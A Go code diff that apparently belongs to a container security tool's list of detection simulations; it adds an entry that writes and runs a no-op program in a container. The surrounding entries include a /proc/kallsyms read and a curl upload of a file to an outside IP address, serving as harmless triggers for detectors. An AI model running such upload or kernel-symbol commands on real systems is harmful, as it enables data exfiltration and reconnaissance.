@@ -66,6 +66,8 @@ var containerSimulations = []Simulation{
 		"setns", nil, container{}),
 	inContainer("executable_written_in_container", "Writes a program that does nothing in a container.",
 		"write-program", []string{"/tmp/simulation"}, container{}),
+	inContainer("new_executable_in_container", "Writes a program that does nothing in a container, and runs it.",
+		"write-and-run", []string{"/tmp/simulation"}, container{}),
 	inContainer("kernel_symbols_read", "Opens /proc/kallsyms for reading in a container, and reads nothing.",
 		"open-for-reading", []string{"/proc/kallsyms"}, container{}),
 	programInContainer("upload_from_container", "/usr/bin/curl", "curl", "-T", "/tmp/simulation", "http://203.0.113.1/"),
